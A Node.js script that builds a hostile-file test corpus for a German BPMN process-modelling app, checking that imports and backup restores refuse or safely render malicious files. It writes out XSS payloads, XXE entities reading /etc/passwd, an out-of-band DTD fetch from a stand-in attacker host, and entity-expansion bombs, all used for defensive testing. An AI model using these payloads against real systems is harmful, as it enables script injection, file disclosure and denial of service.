// Writes the hostile-file corpus of tests/fixtures/hostile/: BPMN files for the workspace import and
// backup bundles for the restore, each made to break a parser, a decoder, the storage or the UI
// (issue 5, "Hostile files"). Small files are committed; big ones (the 25 MB file, 100,000 nested
// levels, 5,000 duplicate ids, huge strings, the 10,000-record backup) are written at test time into
// the git-ignored folder generated/. manifest.json lists every file with what the app must do.
//
//   node scripts/make-hostile-corpus.mjs            writes the committed files and the manifest
//   node scripts/make-hostile-corpus.mjs --generated  writes only the big files (about a second)
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', 'tests', 'fixtures', 'hostile');

/** Every payload sets this flag or opens a dialog if it ever runs; requests to /__pwned-* show parsed HTML. */
const pwnedFlag = '__pwned';
const payloads = [
  '<img src="/__pwned-img" onerror="window.__pwned=1;alert(1)">',
  '<script>window.__pwned=1;alert(1)</script>',
  '<svg onload="window.__pwned=1"><circle r="1"/></svg>',
  '"><iframe src="/__pwned-frame" onload="window.__pwned=1"></iframe>',
  '<a href="javascript:window.__pwned=1">klick</a>',
  '<style>*{background:url(/__pwned-css)}</style>',
  "{{constructor.constructor('window.__pwned=1')()}}",
  '${window.__pwned=1}',
  "'; window.__pwned=1; //",
  '=HYPERLINK("http://example.invalid/__pwned","x")',
];
const payload = (index) => payloads[index % payloads.length];

// ---------------------------------------------------------------------------------------------
// XML helpers

const escapeXml = (text) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
/** markup as numeric character references: `&#60;img …&#62;` */
const numericRefs = (text) => text.replace(/[<>"'&]/g, (char) => `&#${char.charCodeAt(0)};`);
/** references escaped once more: the parser hands out the literal text `&#60;img …&#62;` */
const doubleEncoded = (text) => escapeXml(numericRefs(text));

const ns = {
  bpmn: 'http://www.omg.org/spec/BPMN/20100524/MODEL',
  bpmndi: 'http://www.omg.org/spec/BPMN/20100524/DI',
  dc: 'http://www.omg.org/spec/DD/20100524/DC',
  di: 'http://www.omg.org/spec/DD/20100524/DI',
};

/**
 * A complete diagram with a pool, two lanes, events, a gateway, tasks, a sub-process, data, a
 * text annotation and a group, laid out. `text(field)` gives each text field's XML-ready value.
 */
function richDiagram(text, { ids = {}, declaration = '<?xml version="1.0" encoding="UTF-8"?>', extra = '' } = {}) {
  const id = (key) => ids[key] ?? key;
  const shape = (key, x, y, w, h, more = '') =>
    `      <bpmndi:BPMNShape id="${id(key)}_di" bpmnElement="${id(key)}"${more}><dc:Bounds x="${x}" y="${y}" width="${w}" height="${h}" /></bpmndi:BPMNShape>`;
  const edge = (key, points) =>
    `      <bpmndi:BPMNEdge id="${id(key)}_di" bpmnElement="${id(key)}">${points.map(([x, y]) => `<di:waypoint x="${x}" y="${y}" />`).join('')}</bpmndi:BPMNEdge>`;
  return `${declaration}
<bpmn:definitions xmlns:bpmn="${ns.bpmn}" xmlns:bpmndi="${ns.bpmndi}" xmlns:dc="${ns.dc}" xmlns:di="${ns.di}" id="Definitions_1" name="${text('definitions')}" targetNamespace="http://bpmn.io/schema/bpmn">
  <bpmn:category id="Category_1"><bpmn:categoryValue id="CategoryValue_1" value="${text('group')}" /></bpmn:category>
  <bpmn:message id="Message_1" name="${text('message')}" />
  <bpmn:collaboration id="Collaboration_1" name="${text('collaboration')}">
    <bpmn:documentation>${text('collaborationDoc')}</bpmn:documentation>
    <bpmn:participant id="Participant_1" name="${text('pool')}" processRef="${id('Process_1')}" />
    <bpmn:textAnnotation id="TextAnnotation_1"><bpmn:text>${text('annotation')}</bpmn:text></bpmn:textAnnotation>
    <bpmn:association id="Association_1" sourceRef="${id('Task_1')}" targetRef="TextAnnotation_1" />
    <bpmn:group id="Group_1" categoryValueRef="CategoryValue_1" />
  </bpmn:collaboration>
  <bpmn:process id="${id('Process_1')}" name="${text('process')}" isExecutable="false">
    <bpmn:documentation>${text('processDoc')}</bpmn:documentation>
    <bpmn:laneSet id="LaneSet_1">
      <bpmn:lane id="Lane_1" name="${text('lane1')}">
        <bpmn:flowNodeRef>${id('Start_1')}</bpmn:flowNodeRef><bpmn:flowNodeRef>${id('Task_1')}</bpmn:flowNodeRef><bpmn:flowNodeRef>${id('Gateway_1')}</bpmn:flowNodeRef>
      </bpmn:lane>
      <bpmn:lane id="Lane_2" name="${text('lane2')}">
        <bpmn:flowNodeRef>${id('Task_2')}</bpmn:flowNodeRef><bpmn:flowNodeRef>${id('Sub_1')}</bpmn:flowNodeRef><bpmn:flowNodeRef>${id('End_1')}</bpmn:flowNodeRef>
      </bpmn:lane>
    </bpmn:laneSet>
    <bpmn:startEvent id="${id('Start_1')}" name="${text('start')}"><bpmn:outgoing>Flow_1</bpmn:outgoing></bpmn:startEvent>
    <bpmn:userTask id="${id('Task_1')}" name="${text('task1')}">
      <bpmn:documentation>${text('taskDoc')}</bpmn:documentation>
      <bpmn:incoming>Flow_1</bpmn:incoming><bpmn:outgoing>Flow_2</bpmn:outgoing>
      <bpmn:dataOutputAssociation id="DataOut_1"><bpmn:targetRef>DataObjectReference_1</bpmn:targetRef></bpmn:dataOutputAssociation>
    </bpmn:userTask>
    <bpmn:exclusiveGateway id="${id('Gateway_1')}" name="${text('gateway')}"><bpmn:incoming>Flow_2</bpmn:incoming><bpmn:outgoing>Flow_3</bpmn:outgoing><bpmn:outgoing>Flow_4</bpmn:outgoing></bpmn:exclusiveGateway>
    <bpmn:serviceTask id="${id('Task_2')}" name="${text('task2')}"><bpmn:incoming>Flow_3</bpmn:incoming><bpmn:outgoing>Flow_5</bpmn:outgoing></bpmn:serviceTask>
    <bpmn:subProcess id="${id('Sub_1')}" name="${text('subprocess')}"><bpmn:incoming>Flow_4</bpmn:incoming><bpmn:outgoing>Flow_6</bpmn:outgoing></bpmn:subProcess>
    <bpmn:endEvent id="${id('End_1')}" name="${text('end')}"><bpmn:incoming>Flow_5</bpmn:incoming><bpmn:incoming>Flow_6</bpmn:incoming></bpmn:endEvent>
    <bpmn:sequenceFlow id="Flow_1" sourceRef="${id('Start_1')}" targetRef="${id('Task_1')}" />
    <bpmn:sequenceFlow id="Flow_2" sourceRef="${id('Task_1')}" targetRef="${id('Gateway_1')}" />
    <bpmn:sequenceFlow id="Flow_3" name="${text('flowYes')}" sourceRef="${id('Gateway_1')}" targetRef="${id('Task_2')}"><bpmn:conditionExpression>${text('condition')}</bpmn:conditionExpression></bpmn:sequenceFlow>
    <bpmn:sequenceFlow id="Flow_4" name="${text('flowNo')}" sourceRef="${id('Gateway_1')}" targetRef="${id('Sub_1')}" />
    <bpmn:sequenceFlow id="Flow_5" sourceRef="${id('Task_2')}" targetRef="${id('End_1')}" />
    <bpmn:sequenceFlow id="Flow_6" sourceRef="${id('Sub_1')}" targetRef="${id('End_1')}" />
    <bpmn:dataObjectReference id="DataObjectReference_1" name="${text('dataObject')}" dataObjectRef="DataObject_1" />
    <bpmn:dataObject id="DataObject_1" />
    <bpmn:dataStoreReference id="DataStoreReference_1" name="${text('dataStore')}" />${extra}
  </bpmn:process>
  <bpmndi:BPMNDiagram id="Diagram_1" name="${text('diagram')}">
    <bpmndi:BPMNPlane id="Plane_1" bpmnElement="Collaboration_1">
${shape('Participant_1', 100, 60, 1000, 400, ' isHorizontal="true"')}
${shape('Lane_1', 130, 60, 970, 200, ' isHorizontal="true"')}
${shape('Lane_2', 130, 260, 970, 200, ' isHorizontal="true"')}
${shape('Start_1', 180, 142, 36, 36)}
${shape('Task_1', 270, 120, 100, 80)}
${shape('Gateway_1', 425, 135, 50, 50, ' isMarkerVisible="true"')}
${shape('Task_2', 530, 300, 100, 80)}
${shape('Sub_1', 700, 300, 100, 80, ' isExpanded="false"')}
${shape('End_1', 900, 322, 36, 36)}
${shape('TextAnnotation_1', 300, 10, 200, 40)}
${shape('DataObjectReference_1', 302, 210, 36, 50)}
${shape('DataStoreReference_1', 600, 150, 50, 50)}
${shape('Group_1', 880, 80, 200, 120)}
${edge('Flow_1', [[216, 160], [270, 160]])}
${edge('Flow_2', [[370, 160], [425, 160]])}
${edge('Flow_3', [[450, 185], [450, 340], [530, 340]])}
${edge('Flow_4', [[475, 160], [750, 160], [750, 300]])}
${edge('Flow_5', [[630, 340], [900, 340]])}
${edge('Flow_6', [[800, 340], [900, 340]])}
${edge('Association_1', [[330, 120], [360, 50]])}
${edge('DataOut_1', [[320, 200], [320, 210]])}
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
`;
}

/** The plain texts of richDiagram's fields: German words with umlauts and the euro sign. */
const plainTexts = {
  definitions: 'Definitionen',
  group: 'Gruppe Prüfung',
  message: 'Nachricht',
  collaboration: 'Zusammenarbeit Bürgeramt – Gebühr 12 €',
  collaborationDoc: 'Dokumentation',
  pool: 'Bürgeramt',
  annotation: 'Gebühr 12,50 €',
  process: 'Gewerbeummeldung',
  processDoc: 'Ablauf',
  lane1: 'Sachbearbeitung',
  lane2: 'Kasse',
  start: 'Antrag eingegangen',
  task1: 'Antrag prüfen',
  taskDoc: 'Prüfen',
  gateway: 'Vollständig?',
  task2: 'Gebühr über 25 € erheben',
  subprocess: 'Unterlagen nachfordern',
  end: 'Erledigt',
  flowYes: 'ja',
  flowNo: 'nein',
  condition: 'vollständig',
  dataObject: 'Antrag',
  dataStore: 'Fachverfahren',
  diagram: 'Übersicht',
};
const plain = (field) => escapeXml(plainTexts[field]);
/** Names of the steps (scored elements) in richDiagram, in process order. */
const stepFields = ['task1', 'task2', 'subprocess'];

/** Each text field carries its own payload, prefixed by the field name so the UI shows which is which. */
const hostileText = (encode) => {
  const fields = Object.keys(plainTexts);
  return (field) => encode(`${field}: ${payload(fields.indexOf(field))}`);
};

function utf16(text, littleEndian, bom) {
  const bytes = Buffer.alloc((text.length + (bom ? 1 : 0)) * 2);
  let offset = 0;
  const put = (code) => {
    if (littleEndian) bytes.writeUInt16LE(code, offset);
    else bytes.writeUInt16BE(code, offset);
    offset += 2;
  };
  if (bom) put(0xfeff);
  for (let index = 0; index < text.length; index++) put(text.charCodeAt(index));
  return bytes;
}

const minimalProcess = (name = 'Kleiner Prozess', taskName = 'Prüfen') => `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="${ns.bpmn}" xmlns:bpmndi="${ns.bpmndi}" xmlns:dc="${ns.dc}" id="Definitions_1" targetNamespace="http://bpmn.io/schema/bpmn">
  <bpmn:process id="Process_1" name="${escapeXml(name)}" isExecutable="false">
    <bpmn:task id="Task_1" name="${escapeXml(taskName)}" />
  </bpmn:process>
  <bpmndi:BPMNDiagram id="Diagram_1">
    <bpmndi:BPMNPlane id="Plane_1" bpmnElement="Process_1">
      <bpmndi:BPMNShape id="Task_1_di" bpmnElement="Task_1"><dc:Bounds x="100" y="100" width="100" height="80" /></bpmndi:BPMNShape>
    </bpmndi:BPMNPlane>
  </bpmndi:BPMNDiagram>
</bpmn:definitions>
`;

// ---------------------------------------------------------------------------------------------
// Bundle helpers

const createdAt = '2025-03-01T09:00:00.000Z';
const uuid = (n) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
const department = (n, fields = {}) => ({ id: uuid(n), createdAt, updatedAt: createdAt, revision: 1, name: `Amt ${n}`, code: `${n}`, ...fields });
const processRecord = (n, departmentId, fields = {}) => ({
  id: uuid(n),
  createdAt,
  updatedAt: createdAt,
  revision: 1,
  departmentId,
  name: `Prozess ${n}`,
  lotse: 'Jörg Müller',
  description: '',
  status: 'draft',
  diagramXml: minimalProcess(),
  ...fields,
});
const assessment = (processId, stepId, fields = {}) => ({
  processId,
  stepId,
  answers: { R: 4, Id: 3 },
  quantities: { volume: 120, period: 'monthly', minutesPerCase: 15 },
  notes: '',
  notApplicable: false,
  alreadyAutomated: false,
  updatedAt: createdAt,
  revision: 1,
  ...fields,
});
const envelope = (data, fields = {}) => ({
  type: 'prozesslotse-backup',
  schemaVersion: 1,
  appVersion: '0.1.0',
  createdAt,
  scope: 'workspace',
  data: { departments: [], processes: [], assessments: [], meta: {}, ...data },
  ...fields,
});
const json = (value) => JSON.stringify(value, null, 1);

// ---------------------------------------------------------------------------------------------
// The corpus. expect: { refused: <error code> } | { imported: { … what the UI must then show } }
// | { restored: { … } } (bundles). A refused bundle's `shown` is the refusal the restore dialog
// shows where it says more than the domain's code (a BPMN file is named an XML file there). blockedHandlers: the file holds SVG or XHTML elements with on…
// attributes; Chromium reports them as blocked by the policy (script-src-attr) when the import
// check parses the file with DOMParser, although a parsed document never runs script.

/** @type {{ file: string, kind: 'bpmn' | 'bundle', about: string, expect: object, generated?: boolean, content: () => string | Buffer }[]} */
const corpus = [];
const add = (entry) => corpus.push(entry);

// --- BPMN: not XML, empty, broken ---
add({ file: 'bpmn/empty.bpmn', kind: 'bpmn', about: 'zero bytes', expect: { refused: 'empty' }, content: () => '' });
add({ file: 'bpmn/whitespace-only.bpmn', kind: 'bpmn', about: 'only spaces and line breaks', expect: { refused: 'empty' }, content: () => '  \n\t\r\n   \n' });
add({ file: 'bpmn/plain-text.bpmn', kind: 'bpmn', about: 'prose, not XML', expect: { refused: 'notXml' }, content: () => 'Dies ist kein Prozessmodell, sondern eine Notiz: Gebühr 12 €.\n' });
add({
  file: 'bpmn/png-bytes.bpmn',
  kind: 'bpmn',
  about: 'binary bytes (a PNG header) named .bpmn',
  expect: { refused: 'notXml' },
  content: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), Buffer.from('IHDR<bpmn:definitions>')]),
});
add({
  file: 'bpmn/nul-bytes.bpmn',
  kind: 'bpmn',
  about: 'XML with NUL characters in it',
  expect: { refused: 'notXml' },
  content: () => minimalProcess().replace('Kleiner Prozess', 'Klein\u0000er\u0000Prozess'),
});
add({
  file: 'bpmn/truncated.bpmn',
  kind: 'bpmn',
  about: 'a complete diagram cut off in the middle of an element',
  expect: { refused: 'malformed', at: true },
  content: () => {
    const full = richDiagram(plain);
    return full.slice(0, Math.floor(full.length * 0.55));
  },
});
add({
  file: 'bpmn/mismatched-tags.bpmn',
  kind: 'bpmn',
  about: 'a start tag closed by another end tag',
  expect: { refused: 'malformed', at: true },
  content: () => minimalProcess().replace('</bpmn:process>', '</bpmn:collaboration>'),
});
add({
  file: 'bpmn/unquoted-attribute.bpmn',
  kind: 'bpmn',
  about: 'an attribute value without quotes',
  expect: { refused: 'malformed', at: true },
  content: () => minimalProcess().replace('name="Prüfen"', 'name=Prüfen'),
});
add({
  file: 'bpmn/control-characters.bpmn',
  kind: 'bpmn',
  about: 'control characters XML 1.0 forbids (U+0001, U+001B) in a name',
  expect: { refused: 'malformed', at: true },
  content: () => minimalProcess().replace('Prüfen', 'Pr\u0001ü\u001bfen'),
});
add({
  file: 'bpmn/two-root-elements.bpmn',
  kind: 'bpmn',
  about: 'a second root element after the definitions',
  expect: { refused: 'malformed', at: true },
  content: () => `${minimalProcess()}<bpmn:definitions xmlns:bpmn="${ns.bpmn}" />\n`,
});

// --- BPMN: entities and external references ---
add({
  file: 'bpmn/billion-laughs.bpmn',
  kind: 'bpmn',
  about: 'entity expansion: 10 levels of 10 references (10^9 "lol"s)',
  expect: { refused: 'doctype' },
  content: () => {
    const entities = ['<!ENTITY lol "lol">'];
    for (let level = 1; level <= 9; level++) entities.push(`<!ENTITY lol${level} "${`&lol${level === 1 ? '' : level - 1};`.repeat(10)}">`);
    return minimalProcess()
      .replace('<bpmn:definitions', `<!DOCTYPE bpmn:definitions [\n  ${entities.join('\n  ')}\n]>\n<bpmn:definitions`)
      .replace('name="Prüfen"', 'name="&lol9;"');
  },
});
add({
  file: 'bpmn/quadratic-blowup.bpmn',
  kind: 'bpmn',
  about: 'one 50,000-character entity referenced 5,000 times',
  expect: { refused: 'doctype' },
  content: () =>
    minimalProcess()
      .replace('<bpmn:definitions', `<!DOCTYPE bpmn:definitions [<!ENTITY a "${'a'.repeat(50_000)}">]>\n<bpmn:definitions`)
      .replace('name="Prüfen"', `name="${'&a;'.repeat(5_000)}"`),
});
add({
  file: 'bpmn/external-entity-file.bpmn',
  kind: 'bpmn',
  about: 'an external entity reading /etc/passwd into a task name',
  expect: { refused: 'doctype' },
  content: () =>
    minimalProcess()
      .replace('<bpmn:definitions', '<!DOCTYPE bpmn:definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<bpmn:definitions')
      .replace('name="Prüfen"', 'name="&xxe;"'),
});
add({
  file: 'bpmn/external-parameter-entity.bpmn',
  kind: 'bpmn',
  about: 'a parameter entity loading a DTD from another host (out-of-band exfiltration)',
  expect: { refused: 'doctype' },
  content: () =>
    minimalProcess().replace(
      '<bpmn:definitions',
      '<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "http://attacker.invalid/__pwned.dtd"> %remote;]>\n<bpmn:definitions',
    ),
});
add({
  file: 'bpmn/doctype-after-comment.bpmn',
  kind: 'bpmn',
  about: 'the DOCTYPE hidden behind a comment and a processing instruction',
  expect: { refused: 'doctype' },
  content: () =>
    minimalProcess().replace(
      '<bpmn:definitions',
      '<!-- harmlos -->\n<?editor version="1"?>\n<!doctype bpmn:definitions SYSTEM "http://attacker.invalid/__pwned.dtd">\n<bpmn:definitions',
    ),
});
add({
  file: 'bpmn/xinclude-and-remote-references.bpmn',
  kind: 'bpmn',
  about: 'XInclude, xsi:schemaLocation and bpmn:import pointing at other hosts and local files',
  expect: { imported: { steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
  content: () =>
    richDiagram(plain, {
      extra: '\n    <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text" />',
    })
      .replace(
        'targetNamespace="http://bpmn.io/schema/bpmn">',
        'targetNamespace="http://bpmn.io/schema/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL http://attacker.invalid/__pwned.xsd">\n  <bpmn:import importType="http://www.w3.org/2001/XMLSchema" location="http://attacker.invalid/__pwned-import.xsd" namespace="http://attacker.invalid/" />',
      ),
});

// --- BPMN: encodings ---
add({
  file: 'bpmn/latin1-bytes-declared-utf8.bpmn',
  kind: 'bpmn',
  about: 'ISO-8859-1 bytes (ü = 0xFC) in a file that declares UTF-8',
  expect: { refused: 'encoding' },
  content: () => Buffer.from(richDiagram(plain), 'latin1'),
});
add({
  file: 'bpmn/windows-1252-declared.bpmn',
  kind: 'bpmn',
  about: 'windows-1252 bytes (€ = 0x80) declared as windows-1252',
  expect: { imported: { steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
  content: () => {
    const text = richDiagram(plain, { declaration: '<?xml version="1.0" encoding="windows-1252"?>' });
    const windows1252 = new Map([['€', 0x80], ['–', 0x96]]);
    return Buffer.from(Array.from(text, (char) => windows1252.get(char) ?? char.charCodeAt(0)));
  },
});
for (const [name, littleEndian, bom] of [
  ['utf16le-bom', true, true],
  ['utf16be-bom', false, true],
  ['utf16le-no-bom', true, false],
  ['utf16be-no-bom', false, false],
]) {
  add({
    file: `bpmn/${name}.bpmn`,
    kind: 'bpmn',
    about: `UTF-16 ${littleEndian ? 'little' : 'big'}-endian ${bom ? 'with' : 'without'} a byte order mark, umlauts and €`,
    expect: { imported: { steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
    content: () => utf16(richDiagram(plain, { declaration: '<?xml version="1.0" encoding="UTF-16"?>' }), littleEndian, bom),
  });
}

// --- BPMN: valid XML that is not what the app opens ---
add({
  file: 'bpmn/svg-with-script.bpmn',
  kind: 'bpmn',
  about: 'an SVG image with a script and an onload handler, named .bpmn',
  expect: { refused: 'notBpmn', blockedHandlers: true },
  content: () =>
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(1)"><script>window.__pwned=1;alert(1)</script><image href="/__pwned-img" /></svg>\n`,
});
add({
  file: 'bpmn/xhtml-page.bpmn',
  kind: 'bpmn',
  about: 'an XHTML page with a script, named .bpmn',
  expect: { refused: 'notBpmn', blockedHandlers: true },
  content: () =>
    `<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>window.__pwned=1;alert(1)</script><img src="/__pwned-img" onerror="window.__pwned=1" /></body></html>\n`,
});
add({
  file: 'bpmn/no-process.bpmn',
  kind: 'bpmn',
  about: 'BPMN definitions with only a message, nothing to draw',
  expect: { refused: 'noProcess' },
  content: () => `<?xml version="1.0" encoding="UTF-8"?>\n<bpmn:definitions xmlns:bpmn="${ns.bpmn}" id="D" targetNamespace="x"><bpmn:message id="M" name="Nur eine Nachricht" /></bpmn:definitions>\n`,
});

// --- BPMN: hostile content that must import as plain text ---
add({
  file: 'bpmn/object-property-ids.bpmn',
  kind: 'bpmn',
  about: 'element ids __proto__, constructor, hasOwnProperty, toString, valueOf: bpmn-js would drop these elements',
  expect: { refused: 'reservedId' },
  content: () =>
    richDiagram(plain, {
      ids: { Task_1: '__proto__', Task_2: 'constructor', Start_1: 'hasOwnProperty', Gateway_1: 'toString', End_1: 'valueOf', Process_1: '__defineGetter__' },
    }),
});
add({
  file: 'bpmn/prototype-like-ids.bpmn',
  kind: 'bpmn',
  about: 'element ids prototype, Constructor, __proto, proto__: valid and kept',
  expect: { imported: { steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'], stepIds: ['prototype', 'Constructor', '__proto'] } },
  content: () => richDiagram(plain, { ids: { Task_1: 'prototype', Task_2: 'Constructor', Sub_1: '__proto', Start_1: 'proto__' } }),
});
add({
  file: 'bpmn/duplicate-ids-few.bpmn',
  kind: 'bpmn',
  about: 'three elements reuse taken ids: they are left out, each with a warning naming the id',
  expect: { imported: { warnings: true, steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
  content: () =>
    richDiagram(plain, {
      extra: `
    <bpmn:task id="Task_1" name="Doppelt 1" />
    <bpmn:task id="Task_2" name="Doppelt 2" />
    <bpmn:task id="Sub_1" name="Doppelt 3" />`,
    }),
});
add({
  file: 'bpmn/html-in-every-text-field.bpmn',
  kind: 'bpmn',
  about: 'markup and script in every text field (names, pool, lanes, documentation, annotation, group, condition, diagram name)',
  expect: { imported: { steps: stepFields.map((field) => `${field}: ${payload(Object.keys(plainTexts).indexOf(field))}`) } },
  content: () => richDiagram(hostileText(escapeXml)),
});
add({
  file: 'bpmn/html-as-numeric-references.bpmn',
  kind: 'bpmn',
  about: 'the same markup written as numeric character references (&#60;img …&#62;)',
  expect: { imported: { steps: stepFields.map((field) => `${field}: ${payload(Object.keys(plainTexts).indexOf(field))}`) } },
  content: () => richDiagram(hostileText(numericRefs)),
});
add({
  file: 'bpmn/html-double-encoded.bpmn',
  kind: 'bpmn',
  about: 'references escaped twice: the texts are the literal "&#60;img …&#62;", never decoded a second time',
  expect: { imported: { steps: stepFields.map((field) => numericRefs(`${field}: ${payload(Object.keys(plainTexts).indexOf(field))}`)) } },
  content: () => richDiagram(hostileText(doubleEncoded)),
});
add({
  file: 'bpmn/script-elements-and-cdata.bpmn',
  kind: 'bpmn',
  about: 'XHTML script and img elements inside documentation and extension elements, CDATA with a script, a scriptTask body',
  expect: { blockedHandlers: true, imported: { warnings: true, steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
  content: () =>
    richDiagram(plain, {
      extra: `
    <bpmn:scriptTask id="ScriptTask_1" name="Skript" scriptFormat="javascript"><bpmn:script><![CDATA[window.__pwned=1;alert(1)]]></bpmn:script></bpmn:scriptTask>`,
    })
      .replace(
        '<bpmn:documentation>Prüfen</bpmn:documentation>',
        `<bpmn:documentation><![CDATA[<script>window.__pwned=1;alert(1)</script><img src="/__pwned-img" onerror="window.__pwned=1">]]></bpmn:documentation>
      <bpmn:extensionElements><h:script xmlns:h="http://www.w3.org/1999/xhtml">window.__pwned=1;alert(1)</h:script><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="/__pwned-img" onerror="window.__pwned=1" /><svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="window.__pwned=1" /></bpmn:extensionElements>`,
      )
      .replace('<bpmn:dataStoreReference', '<bpmn:dataStoreReference xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:window.__pwned=1"')
      .replace('id="Task_2_di"', 'id="Task_2_di" style="background:url(/__pwned-css)"'),
});
add({
  file: 'bpmn/illegal-ids-with-markup.bpmn',
  kind: 'bpmn',
  about: 'ids that are not XML names and carry markup: the elements are dropped with a warning naming them (by their names: lane Kasse, flow ja; by id where they have none)',
  expect: { imported: { warnings: true, steps: ['Antrag prüfen', 'Unterlagen nachfordern'], noticeNames: ['Kasse', 'ja', 'Flow_5', 'Task_2_di'] } },
  content: () =>
    richDiagram(plain).replace('id="Task_2"', `id="${escapeXml('<img src="/__pwned-img" onerror="window.__pwned=1">')}"`),
});

add({
  file: 'bpmn/long-annotation.bpmn',
  kind: 'bpmn',
  about: 'a text annotation of 2,500 characters, longer than a label can be drawn in time',
  expect: { refused: 'nameTooLong' },
  content: () => richDiagram(plain).replace('<bpmn:text>Gebühr 12,50 €</bpmn:text>', `<bpmn:text>${'Gebühr€'.repeat(400).slice(0, 2_500)}</bpmn:text>`),
});

// --- BPMN: big files, generated at test time ---
add({
  file: 'generated/too-large-25mb.bpmn',
  kind: 'bpmn',
  generated: true,
  about: 'a valid diagram padded with a 25 MB documentation text',
  expect: { refused: 'tooLarge' },
  content: () => richDiagram(plain).replace('<bpmn:documentation>Ablauf</bpmn:documentation>', `<bpmn:documentation>${'Ablauf des Verfahrens. '.repeat(1_140_000)}</bpmn:documentation>`),
});
add({
  file: 'generated/deeply-nested-100000.bpmn',
  kind: 'bpmn',
  generated: true,
  about: '100,000 nested elements inside the process',
  expect: { refused: 'tooDeep' },
  content: () => {
    const depth = 100_000;
    return minimalProcess().replace('<bpmn:task id="Task_1" name="Prüfen" />', `${'<bpmn:extensionElements>'.repeat(depth)}${'</bpmn:extensionElements>'.repeat(depth)}`);
  },
});
add({
  file: 'generated/duplicate-ids-5000.bpmn',
  kind: 'bpmn',
  generated: true,
  about: '5,001 tasks sharing one id, each drawn: refused as damaged, since the parser leaves out every element whose id is taken',
  expect: { refused: 'duplicateIds' },
  content: () => {
    const count = 5_001;
    const tasks = Array.from({ length: count }, (_, index) => `    <bpmn:task id="Task_dup" name="Aufgabe ${index}" />`).join('\n');
    const shapes = Array.from(
      { length: count },
      (_, index) => `      <bpmndi:BPMNShape id="Shape_${index}" bpmnElement="Task_dup"><dc:Bounds x="${100 + (index % 50) * 120}" y="${100 + Math.floor(index / 50) * 100}" width="100" height="80" /></bpmndi:BPMNShape>`,
    ).join('\n');
    return `<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="${ns.bpmn}" xmlns:bpmndi="${ns.bpmndi}" xmlns:dc="${ns.dc}" id="Definitions_1" targetNamespace="http://bpmn.io/schema/bpmn">
  <bpmn:process id="Process_1" name="Doppelte IDs" isExecutable="false">
${tasks}
  </bpmn:process>
  <bpmndi:BPMNDiagram id="Diagram_1"><bpmndi:BPMNPlane id="Plane_1" bpmnElement="Process_1">
${shapes}
  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
</bpmn:definitions>
`;
  },
});
add({
  file: 'generated/unknown-elements-20000.bpmn',
  kind: 'bpmn',
  generated: true,
  about: '20,000 elements of the BPMN namespace that BPMN does not define, one a line: read with a warning for each (the parser once needed minutes to name their lines)',
  expect: { imported: { warnings: true, steps: ['Antrag prüfen', 'Gebühr über 25 € erheben', 'Unterlagen nachfordern'] } },
  content: () => {
    const unknown = Array.from({ length: 20_000 }, (_, index) => `    <bpmn:auditNote id="Note_${index}" />`).join('\n');
    return richDiagram(plain).replace(/(<bpmn:process [^>]*>\n)/, `$1${unknown}\n`);
  },
});
add({
  file: 'generated/huge-name.bpmn',
  kind: 'bpmn',
  generated: true,
  about: 'a task name of 200,000 characters without a space: bpmn-js would need minutes to fit the label',
  expect: { refused: 'nameTooLong' },
  content: () => richDiagram(plain).replace('name="Antrag prüfen"', `name="${'Antragprüfung'.repeat(16_667).slice(0, 200_000)}"`),
});
add({
  file: 'generated/huge-documentation.bpmn',
  kind: 'bpmn',
  generated: true,
  about: 'a 10 MB documentation text and a name of the longest length shown (2,000 characters)',
  expect: { imported: { stepCount: 3 } },
  content: () =>
    richDiagram(plain)
      .replace('name="Antrag prüfen"', `name="${'Antragprüfung '.repeat(200).slice(0, 2_000)}"`)
      .replace('<bpmn:documentation>Ablauf</bpmn:documentation>', `<bpmn:documentation>${'Ä€ '.repeat(1_700_000)}</bpmn:documentation>`),
});

// --- Backup bundles ---
const dep = department(1, { name: 'Bürgeramt', code: 'Amt 33' });
const proc = processRecord(2, dep.id, { name: 'Gewerbeummeldung', diagramXml: richDiagram(plain) });
const validData = { departments: [dep], processes: [proc], assessments: [assessment(proc.id, 'Task_1')] };

add({ file: 'bundles/empty.json', kind: 'bundle', about: 'zero bytes', expect: { refused: 'notJson' }, content: () => '' });
add({ file: 'bundles/not-json.json', kind: 'bundle', about: 'a BPMN file named .json', expect: { refused: 'notJson', shown: 'xmlFile' }, content: () => minimalProcess() });
add({
  file: 'bundles/truncated.json',
  kind: 'bundle',
  about: 'a valid backup cut off in the middle',
  expect: { refused: 'truncated' },
  content: () => {
    const full = json(envelope(validData));
    return full.slice(0, Math.floor(full.length * 0.6));
  },
});
